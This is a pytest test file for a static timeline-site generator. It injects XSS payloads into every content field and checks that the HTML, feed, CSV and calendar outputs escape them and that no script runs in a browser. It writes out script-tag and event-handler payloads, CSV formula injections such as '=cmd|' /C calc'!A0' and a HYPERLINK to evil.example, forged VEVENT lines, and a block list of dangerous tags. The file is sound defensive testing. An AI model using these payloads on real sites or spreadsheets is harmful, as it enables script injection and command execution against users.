"""Injection: script in every text field is neutralised in every output, and never runs in a browser.

One site is built with a payload in each text field (site title, tag names, source titles and URLs,
event titles, summaries, quotes, speakers, details, locations, updates...). Each payload carries its
own number so that a failure names the field. The outputs are then read as their consumers read
them: HTML parsed, feeds and data files parsed, the CSV as a spreadsheet sees cells, the calendar
through icalendar; and, marked `browser`, every page is opened in Chromium to prove no script ran.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
from pathlib import Path
from urllib.parse import quote

import lxml.etree
import lxml.html
import pytest
import yaml

from conftest import make_site, run_cli  # tests/conftest.py (pytest.ini puts tests/ first on the path)
from harness import SiteServer, load_site

BASE_URL = "https://example.org/inj/"
MARK = "window.__pwned"


def payload(n: int) -> str:
    """A string that runs script (setting window.__pwned to n) wherever it is not escaped."""
    return (f"Zebra{n} </script><script>{MARK}={n}</script><img src=x onerror=\"{MARK}={n}\">"
            f"<svg onload={MARK}={n}>\"'><iframe src=javascript:{MARK}={n}> {{{{7*7}}}} &amp; ]]> -->")


FIELDS: dict[str, int] = {}


def p(field: str) -> str:
    """The payload for one field, numbered in order of first use."""
    return payload(FIELDS.setdefault(field, len(FIELDS) + 1))


def injected_content() -> dict[str, str]:
    site = {
        "title": p("site.title"), "description": p("site.description"), "author": p("site.author"),
        "base_url": BASE_URL, "language": "en", "timezone": "Asia/Seoul",
        "options": {"publish_source_text": True},
        "fields": {
            "missile_type": {"type": "string", "label": p("field.label"), "unit": p("field.unit"),
                             "description": p("field.description"), "filter": True},
            "count": {"type": "integer", "label": "Count"},
        },
    }
    tags = {
        "rail-launch": {"name": p("tag.name"), "description": p("tag.description"), "group": "platform"},
        "ballistic": {"name": "Ballistic", "group": "type"},
        "sanctions": {"name": "=SUM(1+1)*cmd|' /C calc'!A0", "group": "kind"},
    }
    wire = {
        "title": p("source.title"), "publisher": p("source.publisher"), "author": p("source.author"),
        "note": p("source.note"), "published": "2022-01-15", "language": "en",
        "url": "https://example.org/a?b=1&c=%3C/script%3E%3Cscript%3Ewindow.__pwned=1%3C/script%3E",
        "archive_url": "https://web.archive.org/web/2022/https://example.org/a?x=%27%22&y=1",
    }
    kept = {"title": "Kept text", "text": p("source.text") + "\n\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:forged\n"}
    event = {
        "date": "2022-01-14T14:41+09:00",
        "title": p("event.title"),
        "summary": (p("event.summary") + "\n\n[click](javascript:window.__pwned=100) "
                    "[data](data:text/html,<script>window.__pwned=101</script>)\n\n"
                    "END:VEVENT\nBEGIN:VEVENT\nSUMMARY:forged\n\n=cmd|' /C calc'!A0"),
        "tags": ["rail-launch", "ballistic"],
        "details": {"missile_type": p("details.missile_type"), "count": 2},
        "location": {"name": p("location.name"), "lat": 39.0, "lon": 125.7},
        "quotes": [{"text": p("quote.text") + " said the report", "source": "wire",
                    "speaker": p("quote.speaker"), "note": p("quote.note")}],
        "sources": ["wire", "kept"],
        "related": ["2022-01-12-formula"],
        "updates": [{"date": "2022-01-16", "note": p("update.note")}],
        "aliases": ["2022-01-14-old-id"],
    }
    formula = {
        "date": "2022-01-12",
        "title": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "summary": "+cmd|' /C calc'!A0",
        "tags": ["sanctions"],
        "details": {"missile_type": "@SUM(1+1)"},
        "location": {"name": "-2+3+cmd|' /C calc'!A0", "lat": -12.5, "lon": -77.03},
    }
    retracted = {"date": "2022-01", "title": p("retracted.title"), "summary": p("retracted.summary"),
                 "status": "retracted"}
    dump = lambda data: yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=1000)  # noqa: E731
    return {
        "content/site.yaml": dump(site),
        "content/tags.yaml": dump(tags),
        "content/sources/wire.yaml": dump(wire),
        "content/sources/wire.txt": None,
        "content/sources/kept.yaml": dump(kept),
        "content/sources/treasury.yaml": None,
        "content/events/2022-01-14-rail-launch.yaml": dump(event),
        "content/events/2022-01-12-formula.yaml": dump(formula),
        "content/events/2022-01-retracted.yaml": dump(retracted),
        "content/events/2022-01-12-sanctions.yaml": None,
        "content/events/2019-first-test.yaml": None,
        "content/events/2022-01-draft.yaml": None,
    }


@pytest.fixture(scope="module")
def injected(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Build the injected site once; return its output folder."""
    root = tmp_path_factory.mktemp("injected")
    site = make_site(root / "src", files=injected_content())
    result = run_cli("build", "--source", str(site), "--out", str(root / "out"))
    assert result.returncode == 0, result.stderr
    assert "error[" not in result.stderr
    return root / "out"


def require_outputs(root: Path, *names: str) -> None:
    """Fail when an output these checks read was not built (a renamed export must be checked too)."""
    missing = [name for name in names if not (root / name).is_file()]
    assert not missing, f"not built: {', '.join(missing)}"


def files_of(root: Path, *suffixes: str) -> list[Path]:
    return [f for f in sorted(root.rglob("*")) if f.is_file() and f.suffix in suffixes]


# --- What a safe HTML document looks like ----------------------------------------------------------

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "cite", "poster", "data", "background", "srcset",
                  "xlink:href", "ping", "manifest", "icon", "codebase"}
# Elements that load or run other documents; the templates' own <svg> icons and search <form> are
# checked like every element (no handlers, safe URLs), and must not carry content.
DANGEROUS_TAGS = {"iframe", "frame", "object", "embed", "applet", "base", "portal", "frameset"}


def assert_safe_url(url: str, where: str) -> None:
    squeezed = re.sub(r"[\x00-\x20]", "", html.unescape(url))
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", squeezed)
    assert match is None or match.group(1).lower() in {"http", "https", "mailto"}, f"{where}: unsafe URL {url!r}"


def assert_safe_document(root: lxml.html.HtmlElement, where: str, *, own_scripts: str = "") -> None:
    """No element, attribute or URL of this document can run script written in content."""
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.lower()
        assert tag not in DANGEROUS_TAGS, f"{where}: <{tag}> element"
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), f"{where}: {name}= attribute on <{tag}>"
            if name.lower() in URL_ATTRIBUTES:
                assert_safe_url(value, where)
        if tag == "script":
            kind = element.get("type", "")
            if kind == "application/ld+json":
                text = element.text or ""
                assert "</" not in text and "<!--" not in text, f"{where}: markup inside JSON-LD"
                try:
                    json.loads(text)
                except ValueError as exc:
                    raise AssertionError(f"{where}: JSON-LD does not parse: {exc}") from None
            else:
                assert element.get("src", "").startswith(own_scripts) and own_scripts, \
                    f"{where}: script that is not the site's own: {lxml.html.tostring(element)[:200]!r}"
                assert not (element.text or "").strip(), f"{where}: inline script"
        if tag == "meta" and (element.get("http-equiv") or "").lower() == "refresh":
            target = (element.get("content") or "").split("=", 1)[-1]
            assert_safe_url(target, where)
        if tag in ("style", "svg", "math", "template", "noscript"):
            inner = lxml.html.tostring(element, encoding="unicode")
            assert MARK not in inner, f"{where}: content inside <{tag}>"


def assert_safe_fragment(fragment: str, where: str) -> None:
    if fragment.strip():
        assert_safe_document(lxml.html.fragment_fromstring(fragment, create_parent="div"), where)


# --- Pages ------------------------------------------------------------------------------------------

def test_every_page_is_safe(injected: Path) -> None:
    pages = files_of(injected, ".html")
    assert len(pages) > 10
    for page in pages:
        doc = lxml.html.document_fromstring(page.read_bytes())
        assert_safe_document(doc, str(page.relative_to(injected)), own_scripts="/inj/static/")


def test_payloads_are_shown_not_lost(injected: Path) -> None:
    page = injected / "events/2022-01-14-rail-launch/index.html"
    doc = lxml.html.document_fromstring(page.read_bytes())
    text = doc.text_content()
    for field in ("event.title", "quote.speaker", "quote.note", "details.missile_type", "location.name",
                  "update.note", "tag.name", "source.title", "site.title", "field.label"):
        shown = " ".join(payload(FIELDS[field]).split())
        assert shown in " ".join(text.split()), f"{field} is shown as text"
    assert doc.findtext(".//h1").strip() == payload(FIELDS["event.title"])
    assert doc.xpath("string(//meta[@property='og:title']/@content)") == payload(FIELDS["event.title"])
    ld = [json.loads(s.text) for s in doc.iter("script") if s.get("type") == "application/ld+json"]
    assert any(value == payload(FIELDS["event.title"]) for d in ld for _key, value in _strings(d)), \
        "JSON-LD keeps the title, escaped rather than dropped"


def test_every_field_was_injected(injected: Path) -> None:
    everything = b"".join(f.read_bytes() for f in injected.rglob("*") if f.is_file()).decode("utf-8", "replace")
    missing = [field for field, n in FIELDS.items() if f"Zebra{n} " not in everything]
    assert missing == [], "fields that appear in no output (was the payload dropped?)"


# --- Feeds and data files ---------------------------------------------------------------------------

def test_xml_outputs_parse_and_their_html_is_safe(injected: Path) -> None:
    xml = files_of(injected, ".xml")
    require_outputs(injected, "feed.xml")
    atom = "{http://www.w3.org/2005/Atom}"
    for file in xml:
        tree = lxml.etree.fromstring(file.read_bytes())  # raises on a broken document
        for element in tree.iter(f"{atom}content", f"{atom}summary", f"{atom}title", f"{atom}subtitle"):
            if element.get("type") == "html":
                assert_safe_fragment(element.text or "", f"{file.name} <{element.tag}>")
            elif element.get("type") == "xhtml":
                assert_safe_document(lxml.html.fragment_fromstring(
                    lxml.etree.tostring(element[0]).decode(), create_parent="div"), file.name)


def _strings(value, key=""):
    if isinstance(value, dict):
        for k, v in value.items():
            yield from _strings(v, k)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v, key)
    elif isinstance(value, str):
        yield key, value


HTML_KEYS = {"content_html", "summary_html", "html", "text", "headline"}


def test_json_outputs_parse_and_their_html_is_safe(injected: Path) -> None:
    require_outputs(injected, "feed.json", "data/events.json")
    for file in files_of(injected, ".json"):
        doc = json.loads(file.read_bytes())
        html_keys = HTML_KEYS if file.name in ("feed.json", "timelinejs.json") else {"content_html", "html"}
        for key, value in _strings(doc):
            if key in html_keys or key.endswith("_html"):
                assert_safe_fragment(value, f"{file.relative_to(injected)} {key}")


def test_events_json_round_trips_the_text(injected: Path) -> None:
    require_outputs(injected, "data/events.json")
    doc = json.loads((injected / "data/events.json").read_bytes())
    events = doc["events"] if isinstance(doc, dict) else doc
    rail = next(e for e in events if e["id"] == "2022-01-14-rail-launch")
    assert rail["title"] == payload(FIELDS["event.title"])


def test_csv_cells_cannot_run_as_formulas(injected: Path) -> None:
    require_outputs(injected, "data/events.csv")
    files = files_of(injected, ".csv")
    number = re.compile(r"[+-]?\d+(\.\d+)?\Z")
    for file in files:
        text = file.read_bytes().decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline="")))
        for row in rows:
            for cell in row:
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    assert number.match(cell), f"{file.name}: cell {cell!r} would run as a formula"
        flat = [c for row in rows for c in row]
        assert any(c.lstrip("'") == '=HYPERLINK("https://evil.example/?"&A1,"Click")' for c in flat), \
            "the formula-like title is kept as text, not dropped"
        assert "-12.5" in flat and "-77.03" in flat, "negative numbers stay numbers"


def test_calendar_has_no_forged_events(injected: Path) -> None:
    icalendar = pytest.importorskip("icalendar")
    require_outputs(injected, "data/events.ics")
    files = files_of(injected, ".ics")
    for file in files:
        text = file.read_bytes()
        assert b"\r\nSUMMARY:forged" not in text and b"\nBEGIN:VEVENT\r\nSUMMARY:forged" not in text
        calendar = icalendar.Calendar.from_ical(text)
        events = [c for c in calendar.walk("VEVENT")]
        assert len(events) == 3, "one VEVENT per published or retracted event, none forged"
        summaries = {str(e.get("SUMMARY")) for e in events}
        assert "forged" not in summaries
        assert any(payload(FIELDS["event.title"]) in s for s in summaries)


# --- In a real browser ------------------------------------------------------------------------------

WATCH = """
(() => {
  window.__dialogs = [];
  for (const name of ['alert', 'confirm', 'prompt', 'print']) {
    window[name] = (...args) => { window.__dialogs.push(name); };
  }
})();
"""


@pytest.fixture(scope="module")
def injected_server(injected: Path):
    served = load_site(injected, BASE_URL)
    server = SiteServer(served.root, served.mount).start()
    yield served, server
    server.stop()


def _assert_nothing_ran(tab, where: str, dialogs: list[str]) -> None:
    state = tab.evaluate("() => [typeof window.__pwned === 'undefined' ? null : window.__pwned, window.__dialogs]")
    assert state[0] is None, f"{where}: injected script ran (payload {state[0]})"
    assert not state[1] and not dialogs, f"{where}: a dialog opened: {state[1] or dialogs}"


@pytest.mark.browser
def test_no_injected_script_runs_on_any_page(browser, injected_server) -> None:
    served, server = injected_server
    context = browser.new_context(java_script_enabled=True)
    context.add_init_script(WATCH)
    dialogs: list[str] = []
    try:
        tab = context.new_page()
        tab.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        for page in served.pages:
            if page.redirect_to:
                continue
            tab.goto(server.url(page.path), wait_until="load")
            tab.wait_for_timeout(20)
            _assert_nothing_ran(tab, page.path, dialogs)
        # Links written in content keep their text but lose any javascript:/data: target.
        tab.goto(server.url(served.mount + "events/2022-01-14-rail-launch/"), wait_until="load")
        for link in tab.locator("main a").all():
            href = link.get_attribute("href") or ""
            assert_safe_url(href, "event page link")
    finally:
        context.close()


@pytest.mark.browser
def test_redirect_pages_go_only_to_the_event(browser, injected_server) -> None:
    served, server = injected_server
    context = browser.new_context()
    context.add_init_script(WATCH)
    try:
        tab = context.new_page()
        tab.goto(server.url(served.mount + "events/2022-01-14-old-id/"))
        tab.wait_for_url(re.compile(r".*/events/2022-01-14-rail-launch/$"))
        _assert_nothing_ran(tab, "after the alias redirect", [])
    finally:
        context.close()


@pytest.mark.browser
def test_search_results_and_url_state_stay_inert(browser, injected_server) -> None:
    served, server = injected_server
    context = browser.new_context()
    context.add_init_script(WATCH)
    dialogs: list[str] = []
    try:
        tab = context.new_page()
        tab.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        evil = f"</script><img src=x onerror={MARK}=900><svg onload={MARK}=901>"
        tab.goto(server.url(served.mount) + "?q=" + quote(evil) + "&missile_type=" + quote(evil)
                 + "&tag=" + quote(evil) + "#" + quote(evil))
        tab.wait_for_timeout(200)
        _assert_nothing_ran(tab, "home with hostile query", dialogs)
        search = tab.locator("#finder-q")
        if search.count() == 0:
            pytest.skip("the timeline has no search box yet")
        for term in ("Zebra", "window", "script", "onerror", "<img", "Zebra1"):
            search.fill(term)
            tab.wait_for_timeout(150)
            _assert_nothing_ran(tab, f"search for {term!r}", dialogs)
        search.fill("Zebra")
        tab.wait_for_function("document.querySelectorAll('#finder-results li').length > 0", timeout=5000)
        assert MARK in tab.locator("#finder-results").inner_text(), "results show the payload as text"
        for select in tab.locator("#finder select").all():
            options = select.locator("option").all()
            if len(options) > 1:
                select.select_option(index=len(options) - 1)
                tab.wait_for_timeout(100)
        _assert_nothing_ran(tab, "after filtering", dialogs)
    finally:
        context.close()


# --- The checks themselves catch a leak ---------------------------------------------------------------

@pytest.mark.parametrize("leak", [
    payload(1),
    '<a href=" jav&#x09;ascript:x()">x</a>',
    '<meta http-equiv="refresh" content="0; url=javascript:x()">',
    '<script type="application/ld+json">{"a": "</script><script>x()</script>"}</script>',
    '<div><svg><a href="https://ok/">x</a><text>window.__pwned</text></svg></div>',
])
def test_static_checks_catch_a_leak(leak: str) -> None:
    with pytest.raises(AssertionError):
        assert_safe_document(lxml.html.document_fromstring(f"<html><body>{leak}</body></html>"), "probe",
                             own_scripts="/inj/static/")


@pytest.mark.browser
def test_browser_check_catches_a_leak(browser, tmp_path: Path) -> None:
    (tmp_path / "index.html").write_text(f"<!DOCTYPE html><title>x</title><p>{payload(7)}</p>", encoding="utf-8")
    server = SiteServer(tmp_path, "/").start()
    context = browser.new_context()
    context.add_init_script(WATCH)
    try:
        tab = context.new_page()
        tab.goto(server.url("/"), wait_until="load")
        tab.wait_for_timeout(50)
        with pytest.raises(AssertionError, match="payload 7"):
            _assert_nothing_ran(tab, "probe", [])
    finally:
        context.close()
        server.stop()
